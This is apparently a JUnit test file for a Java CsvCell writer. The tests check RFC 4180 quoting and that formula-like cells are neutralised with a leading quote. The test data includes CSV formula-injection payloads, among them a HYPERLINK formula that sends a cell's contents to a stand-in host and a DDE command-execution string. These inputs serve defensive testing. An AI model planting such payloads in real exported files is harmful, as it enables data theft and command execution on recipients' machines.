package io.eteam.csv;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Rules CSV-1 and CSV-2: cells are RFC 4180 fields, and no cell runs as a formula in a spreadsheet.
class CsvCellTest {

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=1+2", "+1", "-2+3", "@SUM(A1:A9)",
            "\t=1", "\r=1", "-", "=cmd|' /C calc'!A0"})
    void a_cell_a_spreadsheet_would_run_gets_a_quote_before_it_and_quotes_around_it(String text) throws IOException {
        var out = new StringBuilder();

        CsvCell.append(out, text);

        assertThat(out.toString()).startsWith("\"'").endsWith("\"");
        assertThat(readBack(out)).isEqualTo("'" + text);
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"Label deal blocks Brazil", "vp-music", "2026-11-24T13:05:00+01:00", "1 = 1", "a-b", "'quoted", "x@y", "🚀"})
    void an_ordinary_cell_is_written_as_it_is(String text) throws IOException {
        var out = new StringBuilder();

        CsvCell.append(out, text);

        assertThat(out.toString()).isEqualTo(text);
        assertThat(readBack(out)).isEqualTo(text);
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"Pricing, final", "Two \"roadmaps\"", "line\nbreak", " padded ", "cr\rinside"})
    void a_cell_with_a_comma_quote_line_break_or_edge_blank_is_quoted_and_reads_back_unchanged(String text) throws IOException {
        var out = new StringBuilder();

        CsvCell.append(out, text);

        assertThat(out.toString()).startsWith("\"").endsWith("\"");
        assertThat(readBack(out)).isEqualTo(text);
    }

    @ParameterizedTest(name = "''{0}''")
    @ValueSource(strings = {"", "x"})
    void an_empty_or_plain_cell_is_not_quoted(String text) {
        var out = new StringBuilder();

        CsvCell.append(out, text);

        assertThat(out.toString()).isEqualTo(text);
    }

    private static String readBack(CharSequence cell) throws IOException {
        try (var parser = CSVParser.parse(new StringReader("a,b\r\n" + cell + ",end\r\n"),
                CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
            return parser.getRecords().get(0).get("a");
        }
    }
}
